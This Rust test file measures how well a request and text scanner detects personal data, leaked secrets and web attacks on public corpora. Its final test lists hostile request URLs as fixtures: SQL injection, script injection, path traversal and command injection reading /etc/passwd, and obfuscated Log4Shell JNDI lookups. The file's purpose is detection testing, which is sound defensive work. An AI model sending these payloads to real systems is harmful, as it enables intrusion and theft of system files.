//! Precision and recall on public data. The bounds are what was reached, less a little, so that a
//! change that loses more fails; `--nocapture` shows the figures.

use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;
use weir_inspect::detector::{Category, DetectorSet};
use weir_inspect::scan::{Catalog, Found, ScanState, Scanner, decode_url};

use super::scanner;

/// The lines of a corpus file, unpacked if need be. Fails if the shared data is not there.
fn corpus(name: &str) -> Vec<Value> {
    let shared = std::env::var_os("WEIR_SHARED")
        .map_or_else(|| PathBuf::from("../../shared"), PathBuf::from);
    let path = shared.join("corpora").join(name);
    let text = match name.ends_with(".gz") {
        true => Command::new("gzip").arg("-dc").arg(&path).output().unwrap().stdout,
        false => std::fs::read(&path).unwrap_or_default(),
    };
    assert!(!text.is_empty(), "{} is not there; set WEIR_SHARED", path.display());
    text.split(|b| *b == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).unwrap())
        .collect()
}

fn scan(scanner: &Scanner, text: &[u8]) -> Vec<Found> {
    let (mut state, mut found) = (ScanState::default(), Vec::new());
    scanner.scan(&mut state, text, true, &DetectorSet::EMPTY, &mut found);
    found
}

#[test]
fn personal_data_in_texts() {
    let (catalog, scanner, _) = scanner();
    let rows = corpus("detect/pii_texts.jsonl.gz");
    // type in the corpus, detector, least recall and precision
    for (kind, detector, recall, precision) in [
        ("CREDIT_CARD", "payment-card", 0.98, 0.99),
        ("US_SSN", "us-ssn", 0.99, 0.9),
        ("IBAN_CODE", "iban", 0.95, 1.0),
        ("EMAIL_ADDRESS", "email", 1.0, 1.0),
        ("PHONE_NUMBER", "phone", 0.3, 0.7),
    ] {
        let id = catalog.by_name(detector).unwrap().id;
        let (mut spans, mut hits, mut findings) = (0, 0, 0);
        for row in &rows {
            let text = row["text"].as_str().unwrap();
            let found = scan(scanner, text.as_bytes());
            let found: Vec<_> = found.iter().filter(|f| f.detector == id).collect();
            findings += found.len();
            for span in row["spans"].as_array().unwrap().iter().filter(|s| s["type"] == kind) {
                let (start, end) = (span["start"].as_u64().unwrap(), span["end"].as_u64().unwrap());
                let overlap = |f: &&&Found| {
                    let both = f.end.min(end).saturating_sub(f.start.max(start));
                    both * 2 > (end - start).max(f.end - f.start)
                };
                let hit = found.iter().filter(overlap).count();
                spans += 1;
                hits += hit;
                if hit == 0 {
                    println!("  missed {kind} {}", &text[start as usize..end as usize]);
                }
            }
        }
        let (r, p) = (hits as f64 / spans as f64, hits as f64 / findings as f64);
        println!("{detector}: recall {r:.3} ({hits} of {spans}), precision {p:.3} of {findings}");
        assert!(r >= recall && p >= precision, "{detector}: recall {r:.3}, precision {p:.3}");
    }
}

#[test]
fn no_cards_in_answers_of_an_api_full_of_numbers() {
    let (catalog, scanner, _) = scanner();
    let mut counts = std::collections::BTreeMap::new();
    let mut cards = 0;
    for row in corpus("detect/datadog_bodies.jsonl.gz") {
        let body = match &row["body"] {
            Value::String(text) => text.clone(),
            other => other.to_string(),
        };
        for f in scan(scanner, body.as_bytes()) {
            let name = &catalog.get(f.detector).unwrap().name;
            *counts.entry(name.clone()).or_insert(0) += 1;
            if name == "payment-card" {
                cards += 1;
                let (start, end) = (f.start as usize, f.end as usize);
                println!("  {}", body[start.saturating_sub(40)..end].escape_debug());
            }
        }
    }
    println!("findings in 10.96 MB: {counts:?}");
    assert!(cards <= 5, "{cards} cards");
}

#[test]
fn ordinary_answers_tell_little_of_the_server_and_of_models() {
    let (catalog, scanner, _) = scanner();
    let mut counts = std::collections::BTreeMap::new();
    let mut bodies = 0;
    for (file, field) in
        [("detect/datadog_bodies.jsonl.gz", "body"), ("detect/pii_texts.jsonl.gz", "text")]
    {
        for row in corpus(file) {
            let text = row[field].as_str().unwrap_or_default();
            let found = scan(scanner, text.as_bytes());
            let found = found.iter().filter_map(|f: &Found| catalog.get(f.detector));
            let told = found.filter(|d| matches!(d.category, Category::Leakage | Category::Llm));
            let names: std::collections::BTreeSet<_> = told.map(|d| d.name.clone()).collect();
            bodies += usize::from(!names.is_empty());
            names.into_iter().for_each(|name| *counts.entry(name).or_insert(0) += 1);
        }
    }
    println!("texts with findings: {bodies}, by detector: {counts:?}");
    assert!(bodies <= 20, "{counts:?}");
}

#[test]
fn secrets_of_our_kinds() {
    let (catalog, scanner, _) = scanner();
    // What the hint names, and what it is for the scanner.
    let kinds = [
        ("kingfisher.aws.1", "aws-access-key"),
        ("np.aws.5", "aws-access-key"),
        ("gcp-api-key", "gcp-api-key"),
        ("np.google.5", "gcp-api-key"),
        ("github.1", "github-token"),
        ("github.2", "github-token"),
        ("github.3", "github-token"),
        ("github.4", "github-token"),
        ("github.7", "github-token"),
        ("slack-app-token", "slack-token"),
        ("slack-bot-token", "slack-token"),
        ("slack-config-access-token", "slack-token"),
        ("slack-config-refresh-token", "slack-token"),
        ("slack-legacy", "slack-token"),
        ("slack-user-token", "slack-token"),
        ("np.slack.2", "slack-token"),
        ("np.slack.4", "slack-token"),
        ("np.slack.6", "slack-token"),
        ("stripe", "stripe-key"),
        ("private-key", "private-key"),
        ("pem.1", "private-key"),
        ("gitleaks:jwt", "jwt"),
        ("jwt.1", "jwt"),
    ];
    let (mut wanted, mut hits, mut clean, mut alarms) = (0, 0, 0, 0);
    for row in corpus("detect/secrets.jsonl.gz") {
        let text = row["text"].as_str().unwrap();
        let found = scan(scanner, text.as_bytes());
        let names = found.iter().map(|f| catalog.get(f.detector).unwrap());
        let names: Vec<_> = names
            .filter(|d| matches!(d.category, Category::Secrets | Category::SecretsNamed))
            .collect();
        let hint = row["detector"].as_str().unwrap();
        let hint = if hint == "jwt" { "gitleaks:jwt" } else { hint };
        let kind = kinds.iter().find(|(part, _)| hint.contains(part));
        match (row["expected"].as_bool().unwrap(), kind) {
            (true, Some((_, name))) => {
                wanted += 1;
                let hit = names.iter().any(|d| d.name == *name);
                hits += usize::from(hit);
                if !hit {
                    println!("  missed {hint}: {}", &text[..text.len().min(120)].escape_debug());
                }
            }
            (false, _) => {
                clean += 1;
                alarms += usize::from(!names.is_empty());
                if !names.is_empty() {
                    println!(
                        "  {} in {hint}: {}",
                        names[0].name,
                        &text[..text.len().min(120)].escape_debug()
                    );
                }
            }
            _ => {}
        }
    }
    println!("secrets: {hits} of {wanted} found; {alarms} of {clean} false ones");
    // "False" is "not by that rule": half of these are what another kind looks like.
    assert!(hits * 100 >= wanted * 95 && alarms * 100 <= clean * 16);
}

/// Whether an attack is found in the URL, the headers or the body of a request.
fn is_attack(scanner: &Scanner, attacks: &DetectorSet, row: &Value) -> bool {
    let (mut decoded, mut found) = (Vec::new(), Vec::new());
    let target = row["url"].as_str().unwrap().as_bytes();
    decode_url(target, &mut decoded);
    scanner.scan_url(target, &decoded, attacks, &mut found);
    for (name, value) in row["headers"].as_object().into_iter().flatten() {
        let usual = ["accept", "host", "connection", "accept-encoding", "content-length"];
        if !usual.iter().any(|n| name.eq_ignore_ascii_case(n)) {
            scanner.scan_whole(value.as_str().unwrap_or("").as_bytes(), attacks, &mut found);
        }
    }
    if let Some(body) = row["body"].as_str() {
        let mut state = ScanState::default();
        state.set_attacks(attacks);
        scanner.scan(&mut state, body.as_bytes(), true, &DetectorSet::EMPTY, &mut found);
    }
    !found.is_empty()
}

fn attack_scanner() -> (Scanner, DetectorSet) {
    let catalog = Catalog::builtin();
    let mut attacks = DetectorSet::EMPTY;
    catalog.iter().filter(|d| d.category == Category::Attacks).for_each(|d| attacks.insert(d.id));
    (Scanner::new(&catalog, &attacks), attacks)
}

#[test]
fn a_key_behind_a_quote_is_no_comment_of_sql() {
    let (scanner, attacks) = attack_scanner();
    let is_found = |text: &str| {
        let mut found = Vec::new();
        scanner.scan_whole(text.as_bytes(), &attacks, &mut found);
        !found.is_empty()
    };
    assert!(!is_found(r#"{"key":"-----BEGIN RSA PRIVATE KEY-----\nMIIE"}"#));
    assert!(is_found("/?id=1'--") && is_found("/?id=1' -- x"));
}

/// The share of distinct requests of a corpus in which an attack is found.
fn share(name: &str, keep: fn(&Value) -> bool) -> f64 {
    let (scanner, attacks) = attack_scanner();
    let mut seen = std::collections::HashSet::new();
    let (mut all, mut hits) = (0, 0);
    for row in corpus(name).iter().filter(|r| keep(r)) {
        if seen.insert(format!("{}{}", row["url"], row["body"])) {
            all += 1;
            let hit = is_attack(&scanner, &attacks, row);
            hits += usize::from(hit);
            let shown =
                std::env::var("SHOW").is_ok_and(|s| s == if hit { "hits" } else { "misses" });
            if shown {
                println!("  {} {} {} {}", row["test_id"], row["url"], row["body"], row["headers"]);
            }
        }
    }
    println!("{name}: {hits} of {all} distinct requests ({:.4})", hits as f64 / all as f64);
    hits as f64 / all as f64
}

#[test]
fn benign_requests_pass() {
    assert!(share("attack/benign_legit6.jsonl.gz", |_| true) <= 0.01);
    assert!(share("attack/csic_normal.jsonl.gz", |_| true) <= 0.01);
    assert!(share("attack/libinjection_fp.jsonl", |_| true) <= 0.05);
}

#[test]
fn attacks_are_found() {
    assert!(share("attack/sqli_train.jsonl.gz", |_| true) >= 0.95);
    let core = |r: &Value| {
        let category = r["category"].as_str().unwrap_or("");
        let ours = ["SQLI", "XSS", "LFI", "RCE"].iter().any(|c| category.ends_with(c));
        ours && r["label"] == "attack" && r["direction"] == "request"
    };
    assert!(share("attack/crs.jsonl.gz", core) >= 0.28);
}

#[test]
fn the_six_attacks_of_the_leak_test() {
    let (scanner, attacks) = attack_scanner();
    for url in [
        "/1k/0.json?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--",
        "/1k/1.json?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/1k/2.json?f=../../../../etc/passwd",
        "/1k/3.json?id=1%20OR%201=1",
        "/1k/4.json?u=${jndi:ldap://a/b}",
        "/1k/5.json?c=;cat%20/etc/passwd",
        "/?u=${${lower:j}ndi:${lower:l}dap://a/b}",
        "/?u=$%7B$%7B::-j%7Dndi:rmi://a/b%7D",
        "/?id=1%2527%2520or%25201%253D1--",
    ] {
        let row = serde_json::json!({ "url": url });
        assert!(is_attack(&scanner, &attacks, &row), "{url}");
    }
}
